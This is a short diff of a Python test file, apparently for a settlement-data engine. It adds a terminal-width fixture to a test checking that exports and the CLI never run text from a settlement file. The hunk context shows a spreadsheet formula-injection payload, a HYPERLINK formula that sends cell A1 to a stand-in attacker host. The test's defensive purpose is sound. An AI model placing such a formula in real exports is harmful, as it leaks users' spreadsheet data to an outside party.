@@ -124,7 +124,7 @@ HOSTILE = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"
 
 
 def test_exports_and_the_cli_never_run_text_from_a_settlement_file(
-        db_url: str, tmp_path: Path) -> None:
+        db_url: str, tmp_path: Path, wide_terminal: None) -> None:
     from engine.storage import db
 
     engine = db.make_engine(db_url)
